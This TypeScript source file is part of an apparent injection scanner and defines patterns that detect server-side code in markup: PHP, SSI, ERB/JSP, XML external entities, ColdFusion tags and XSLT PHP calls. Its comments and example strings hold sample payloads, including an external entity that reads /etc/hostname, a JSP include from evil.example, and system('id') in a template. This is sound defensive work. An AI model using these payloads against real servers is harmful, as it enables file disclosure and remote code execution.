import type { Pattern } from "../pattern.ts";
import { ESCAPES, FRAMEWORK, SCRIPT_CALL, word } from "../keywords.ts";
import { BOUND, NUMBER, type Tokens, WORD } from "../tokens.ts";

const ASSIGN = word("assign"), DOCTYPE = word("doctype"), ENTITY = word("entity"), IMPORT = word("import");
const INCLUDE = word("include"), PHP = word("php"), PUBLIC = word("public"), STYLESHEET = word("stylesheet");
const FUNCTION = word("function");
const SYSTEM = word("system"), XML = word("xml"), LIST = word("list");
const LESS = 0x3c, GREATER = 0x3e, EQUALS = 0x3d, PERCENT = 0x25, HASH = 0x23, BRACKET = 0x5b, CLOSE_BRACKET = 0x5d;
const OPEN = 0x28, DOT = 0x2e, AT = 0x40, BACKTICK = 0x60, SEMICOLON = 0x3b, DOLLAR = 0x24;

/** `<!--#exec`, `<!ENTITY x SYSTEM`, `<?php`, `<%= … %>`: code in markup for a server or a parser. */
function isServerMarkup(t: Tokens, i: number): boolean {
  const next = t.kind[i + 1] as number;
  if (!t.glued(i + 1)) return false;
  if (next === 0x3f) {
    if (t.word[i + 2] === PHP) return true;
    return t.kind[i + 2] === EQUALS ||
      (t.word[i + 2] === XML && t.kind[i + 3] === 0x2d && t.word[i + 4] === STYLESHEET);
  }
  if (next === PERCENT) {
    return isServerCode(t, i);
  }
  if (next === HASH) {
    return t.word[i + 2] === ASSIGN || t.word[i + 2] === INCLUDE || t.word[i + 2] === IMPORT || t.word[i + 2] === LIST;
  }
  if (next !== 0x21) return false;
  if (t.word[i + 2] === ENTITY) {
    for (let at = i + 3; at < i + 8; at++) {
      if (t.word[at] === SYSTEM || t.word[at] === PUBLIC || t.isQuote(at)) return true;
    }
    return false;
  }
  if (t.word[i + 2] === DOCTYPE) {
    for (let at = i + 3; at < i + 10; at++) {
      if (t.word[at] === SYSTEM || (t.kind[at] === BRACKET && t.kind[at + 1] === LESS)) return true;
      if (t.kind[at] === GREATER || t.kind[at] === BOUND) return false;
    }
    return false;
  }
  return t.kind[i + 2] === 0x2d && t.kind[i + 3] === 0x2d && t.kind[i + 4] === HASH && t.kind[i + 5] === WORD &&
    t.glued(i + 5);
}

/**
 * `<%= system('id') %>`, `<%@ page … %>`, `<%= 7*7 %>`: a display's `<%= temp %>` and `<% if hot %>` call, assign and
 * calculate nothing, and name none of what the server keeps for itself.
 */
function isServerCode(t: Tokens, i: number): boolean {
  let isCode = t.kind[i + 2] === 0x40 && t.kind[i + 3] === WORD && t.spaced(i + 4) || t.kind[i + 2] === 0x21;
  let names = 0;
  let operators = 0;
  for (let at = i + 2; at < i + 40; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND || kind === LESS) return false;
    if (kind === PERCENT && t.kind[at + 1] === GREATER) return at > i + 2 && (isCode || (names === 0 && operators > 0));
    if (kind === WORD) {
      names++;
      const bits = t.bits[at] as number;
      const isMember = t.kind[at - 1] === DOT || (t.kind[at - 1] === AT && t.glued(at));
      // `<%eval request("x")%>`: two names with a parenthesis behind them
      if ((bits & (ESCAPES | FRAMEWORK)) !== 0 && !isMember) isCode = true;
      if ((bits & SCRIPT_CALL) !== 0 && (t.kind[at + 1] === OPEN || t.word[at] === IMPORT)) isCode = true;
    } else if (kind === OPEN) isCode ||= t.kind[at - 1] === WORD && t.glued(at);
    else if (kind === BACKTICK || kind === SEMICOLON || kind === DOLLAR) isCode = true;
    else if (kind === EQUALS) {
      // An assignment: neither `<%=`, nor a comparison.
      const before = t.kind[at - 1] as number;
      isCode ||= at > i + 2 && t.kind[at + 1] !== EQUALS && (before === WORD || before === CLOSE_BRACKET);
    } else if (kind === 0x2a || kind === 0x2b || kind === 0x2f) {
      operators += t.kind[at - 1] === NUMBER || t.isQuote(at - 1) ? 1 : 0;
    }
  }
  return false;
}

/** `php:function('system', …)`: XSLT that calls PHP. */
function isXsltCall(t: Tokens, i: number): boolean {
  return t.kind[i + 1] === 0x3a && t.glued(i + 1) && t.word[i + 2] === FUNCTION && t.glued(i + 2) &&
    t.kind[i + 3] === 0x28 && t.glued(i + 3);
}

/** `<jsp:include page="x"/>`, `<cfexecute name="id">`: what a server runs before it sends the page. */
function isServerTag(t: Tokens, i: number): boolean {
  if (t.kind[i - 1] !== LESS || !t.glued(i)) return false;
  if (t.word[i] !== JSP) return t.kind[i + 1] === WORD && t.kind[i + 2] === EQUALS;
  return t.kind[i + 1] === 0x3a && t.glued(i + 1) && t.glued(i + 2) && JSP_ACTIONS.has(t.word[i + 2] as number);
}
const JSP = word("jsp");
const JSP_ACTIONS = new Set(
  ["include", "forward", "usebean", "directive", "scriptlet", "declaration", "expression", "getproperty", "setproperty"]
    .map(word),
);

/** Code in markup, for a server or a parser. */
export const SERVER_MARKUP = {
  code: {
    name: "script-server-markup",
    category: "script-injection",
    severity: "high",
    catches: "Server-side includes, PHP, ERB and JSP, FreeMarker, external entities",
    example: '<!ENTITY x SYSTEM "file:///etc/hostname">',
    nearMiss: "<?xml version='1.0'?><!-- note --><!DOCTYPE html> <%= temp %> of <%= max %> <% if hot %>!<% end %>",
    weak: true,
    at: ["<!", "<?", "<%", "<#"],
    test: isServerMarkup,
  },
  tag: {
    name: "script-server-tag",
    category: "script-injection",
    severity: "high",
    catches: "Actions of JSP and tags of ColdFusion that a server runs",
    example: '<jsp:include page="http://evil.example/x"/>',
    nearMiss: "<jsp> jsp: include <b>cfinclude</b>",
    at: ["jsp", "cfexecute", "cfinclude", "cffile"].map(word),
    gate: "markup",
    test: isServerTag,
  },
  xslt: {
    name: "script-xslt-call",
    category: "script-injection",
    severity: "high",
    catches: "XSLT that calls a function of PHP",
    example: "<xsl:value-of select=\"php:function('phpversion')\"/>",
    nearMiss: "php: function keys, and php :function()",
    at: [PHP],
    test: isXsltCall,
  },
} as const satisfies Readonly<Record<string, Pattern>>;
